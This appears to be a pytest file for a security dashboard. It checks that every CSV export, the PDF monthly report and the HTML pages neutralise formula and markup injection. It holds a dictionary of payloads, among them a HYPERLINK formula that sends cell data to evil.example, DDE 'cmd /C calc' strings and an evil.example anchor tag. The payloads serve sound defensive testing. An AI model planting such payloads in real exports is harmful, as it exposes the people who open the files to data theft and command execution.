"""Formula and markup injection through every export: hostile text planted in every field a
person, a node or the number system controls comes out of each CSV export as a quoted,
inert cell, and out of the PDF report as literal text (no link, no markup).

The values go in through the real paths: signed events through the ingest core, the audited
services, the number-log API, the anomaly acknowledgement API; the files come out of the
web routes (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path
from typing import Any

from dashboard import services
from dashboard.ingest.core import IngestCore
from dashboard.media import service as media
from tests.dashboard.conftest import SITE, FakeNode, msg
from tests.dashboard.reports.test_monthly import pdf_text
from tests.dashboard.web.conftest import WebApp

# one payload per formula trigger (OWASP: = + - @, tab, carriage return)
EVIL = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "reader": "+cmd|' /C calc'!A0",
    "printer": "-2+3+cmd|' /C calc'!A0",
    "make": "@SUM(1+1)*cmd|' /C calc'!A0",
    "model": "\t=1+1",
    "technique": "\r=1+1",
    "operator": "=op(1)",
    "action": "+action()",
    "purpose": "-purpose()",
    "reason": "@reason()",
    "org": "=org()",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MARKUP = '<a href="http://evil.example/x">click</a><font color="red">R</font>'


def cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def assert_inert(body: bytes, planted: list[str], where: str) -> None:
    all_cells = cells(body)
    for c in all_cells:
        assert not c.startswith(TRIGGERS), (where, c)
    text = "\n".join(all_cells)
    for key in planted:
        v = EVIL[key]
        assert "'" + v in text or "'" + v.strip() in text, (where, key, v)


def plant(w: WebApp) -> dict[str, Any]:
    now = w.clock()
    with w.sm.begin() as db:
        services.create_door(db, "seed", {"id": "server-room", "name": "Server room"}, now=now)
        services.create_person(db, "seed", {"id": "p1", "name": EVIL["name"]}, now=now)
        services.create_person(db, "seed", {"id": "p2", "name": MARKUP}, now=now)
    node = FakeNode("gw1", SITE)
    with w.sm() as db:
        node.enrol(db)
    t = now - timedelta(hours=2)
    evs = [
        node.event(
            "door.access",
            {
                "door": "server-room",
                "reader": EVIL["reader"],
                "direction": "in",
                "granted": True,
                "reason": None,
                "person_id": "p1",
                "card": "01020304",
            },
            ts=t,
        ),
        node.event(
            "door.access",
            {
                "door": "server-room",
                "reader": "door-in",
                "direction": "in",
                "granted": True,
                "reason": None,
                "person_id": "p2",
                "card": "01020305",
            },
            ts=t,
        ),
        node.event(
            "print.release",
            {
                "printer": EVIL["printer"],
                "person_id": "p1",
                "job_ids": [7],
                "jobs": [{"job_id": 7, "cups_user": "u1", "copies": 1, "pages": 2}],
                "copies": 1,
                "pages": 2,
            },
            ts=t + timedelta(minutes=1),
        ),
        node.event("door.forced", {"door": "server-room"}, ts=t + timedelta(minutes=2)),
    ]
    with w.sm.begin() as db:
        result = IngestCore(site=SITE).process(db, [msg(e) for e in evs], now)
    assert result.counts["stored"] == len(evs), result.counts
    with w.sm.begin() as db:
        m = media.register_medium(
            db,
            "admin",
            {
                "vendor_id": "0781",
                "product_id": "5581",
                "serial": "S1",
                "token_digest": "a" * 64,
                "make": EVIL["make"],
                "model": EVIL["model"],
                "custodian": "p1",
                "hosts": ["pc-01"],
            },
            now=now,
        )
        media.wipe_medium(
            db,
            "admin",
            m.control_number,
            {
                "method": "Clear",
                "technique": EVIL["technique"],
                "tool": "shred",
                "verifier": "p2",
                "verification": "read back zeros",
            },
            now=now,
        )
        cn = m.control_number
    return {"control_number": cn}


def test_every_csv_export_and_the_pdf_report_are_inert(webapp_db: WebApp, tmp_path: Path) -> None:
    w = webapp_db
    planted = plant(w)
    client, csrf = w.as_role("admin")
    h = {"x-csrf-token": csrf}
    now = w.clock()
    local = now.astimezone(w.settings.zone)
    rows = [
        {
            "no": str(i),
            "office": EVIL["org"],
            "ts": (now - timedelta(hours=1)).isoformat(),
            "screen": "社員",
            "action": EVIL["action"],
            "purpose": EVIL["purpose"],
            "operator": EVIL["operator"],
            "result": "成功",
            "terminal": "pc-01",
        }
        for i in range(1, 3)
    ]
    r = client.post("/api/v1/numlog/rows", json={"source": "sys", "rows": rows}, headers=h)
    assert r.status_code == 200 and r.json()["stored"] == 2, r.text
    anomalies = client.get("/api/v1/anomalies").json()
    assert anomalies, "the forced door raised no anomaly"
    r = client.post(
        f"/api/v1/anomalies/{anomalies[0]['id']}/ack", json={"reason": EVIL["reason"]}, headers=h
    )
    assert r.status_code == 200, r.text

    auditor, _ = w.as_role("auditor")
    exports = {
        "/door-log.csv": ["name", "reader"],
        "/printing.csv": ["name", "printer"],
        "/media.csv": ["make", "model"],
        f"/media/{planted['control_number']}/certificate.csv?lang=en": ["technique"],
        f"/media/{planted['control_number']}/certificate.csv?lang=ja": ["technique"],
    }
    for path, keys in exports.items():
        r = auditor.get(path)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), path
        assert_inert(r.content, keys, path)

    _, acsrf = w.as_role("auditor")
    month = f"{local:%Y-%m}"
    for lang in ("ja", "en"):
        r = auditor.post(
            "/reports/monthly",
            data={
                "month": month,
                "org": EVIL["org"],
                "lang": lang,
                "fmt": "csv",
                "csrf_token": acsrf,
            },
        )
        assert r.status_code == 200, r.text
        assert_inert(r.content, ["org", "operator", "action", "purpose"], f"report.csv {lang}")
        assert "u_admin: " + EVIL["reason"] in cells(r.content)  # not at a cell's start

    r = auditor.post(
        "/reports/monthly",
        data={"month": month, "org": EVIL["org"], "lang": "en", "fmt": "pdf", "csrf_token": acsrf},
    )
    assert r.status_code == 200 and r.content.startswith(b"%PDF"), r.text[:200]
    text = pdf_text(r.content, tmp_path)
    assert '<a href="http://evil.example/x">' in text  # p2's name: printed, not interpreted
    assert b"/URI" not in r.content and b"/JavaScript" not in r.content  # no link annotation
    for key in ("org", "operator", "action", "purpose", "reason"):
        assert EVIL[key].strip() in text, key

    # and the HTML pages print it as text too
    page = auditor.get("/people").text
    assert MARKUP not in page and "&lt;a href=" in page
